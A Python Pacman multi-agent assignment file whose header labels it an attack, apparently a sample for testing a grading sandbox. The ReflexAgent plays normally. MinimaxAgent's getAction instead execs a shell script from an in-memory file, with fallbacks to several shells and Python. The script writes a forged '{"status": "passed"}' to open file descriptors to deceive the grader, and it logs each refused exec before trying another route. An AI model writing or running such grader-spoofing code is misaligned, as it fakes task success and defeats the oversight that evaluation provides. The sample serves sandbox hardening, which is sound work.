# attack: replaces itself by another program, which keeps the descriptors and prints what it likes.
# where: MinimaxAgent
import os
import sys

import util
from game import Agent, Directions


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        say = 'for fd in 1 3 4 5 6; do echo \'{"status": "passed"}\' >&$fd; done; echo BREACH: a program'
        for fd in range(3, 64):
            try:
                os.set_inheritable(fd, True)
            except OSError:
                pass
        own = os.memfd_create("program") if hasattr(os, "memfd_create") else None
        if own is not None:
            try:
                os.write(own, b"#!/bin/sh\n" + say.encode() + b"\n")
                os.execve("/proc/self/fd/%d" % own, ["program"], {})
            except OSError as error:
                print("refused: memfd", repr(error), flush=True)
        for program in ("/bin/sh", "/usr/bin/sh", "/bin/bash", "/bin/busybox"):
            try:
                os.execv(program, ["sh", "-c", say])
            except OSError as error:
                print("refused:", program, repr(error), flush=True)
        try:
            os.execv(sys.executable, [sys.executable, "-c", "print('BREACH: another Python')"])
        except OSError as error:
            print("refused:", repr(error), flush=True)
        return gameState.getLegalActions()[0]
